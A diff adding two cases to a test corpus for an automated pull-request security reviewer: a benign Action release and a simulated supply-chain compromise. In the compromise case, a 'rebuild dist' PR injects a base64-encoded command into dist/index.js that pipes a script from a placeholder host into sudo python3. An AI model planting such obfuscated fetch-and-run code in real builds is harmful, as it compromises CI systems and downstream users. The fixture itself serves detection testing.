@@ -361,4 +361,53 @@ export const CODE_CASES: CorpusEntry[] = [
       }),
     expect: { level: 'low', action: ['approve', 'comment'], findings: ['shell-command-execution'] },
   },
+  {
+    id: 'action-dist-edited-payload',
+    description:
+      'Modeled on the March 2025 tj-actions/changed-files and reviewdog compromises: only the Action\'s built dist/index.js changes, and the new lines decode a base64 command and run it.',
+    fixture: () =>
+      codePr({
+        repo: 'changed-paths-action',
+        number: 6801,
+        title: 'chore: rebuild dist',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'dist/index.js',
+            base: lines('"use strict";', 'const core = require("@actions/core");', 'async function run() {', '  const files = await listChanged();', '  core.setOutput("all_changed_files", files.join(" "));', '}', 'run();'),
+            head: lines(
+              '"use strict";',
+              'const core = require("@actions/core");',
+              'const { execSync } = require("child_process");',
+              'async function run() {',
+              '  execSync(Buffer.from("Y3VybCAtc1NmTCBodHRwczovL2dpc3QuZXhhbXBsZS5pbnZhbGlkL21lbWR1bXAucHkgfCBzdWRvIHB5dGhvbjM=", "base64").toString("utf-8"));',
+              '  const files = await listChanged();',
+              '  core.setOutput("all_changed_files", files.join(" "));',
+              '}',
+              'run();',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['generated-code-edited', 'obfuscated-code'] },
+  },
+  {
+    id: 'action-release-rebuilds-dist',
+    description: 'A maintainer releases the Action: the version in package.json moves and dist/index.js is rebuilt with it.',
+    fixture: () =>
+      codePr({
+        repo: 'changed-paths-action',
+        number: 6802,
+        title: 'Release v1.4.0',
+        files: [
+          { path: 'package.json', base: `${JSON.stringify({ name: 'changed-paths-action', version: '1.3.2', main: 'dist/index.js' }, null, 2)}\n`, head: `${JSON.stringify({ name: 'changed-paths-action', version: '1.4.0', main: 'dist/index.js' }, null, 2)}\n` },
+          {
+            path: 'dist/index.js',
+            base: lines('"use strict";', 'const VERSION = "1.3.2";', 'const core = require("@actions/core");', 'core.info("changed-paths " + VERSION);'),
+            head: lines('"use strict";', 'const VERSION = "1.4.0";', 'const core = require("@actions/core");', 'core.info("changed-paths " + VERSION);'),
+          },
+        ],
+      }),
+    expect: { level: 'low', action: ['approve', 'comment'], absentDrivers: ['finding:generated-code-edited'] },
+  },
 ];
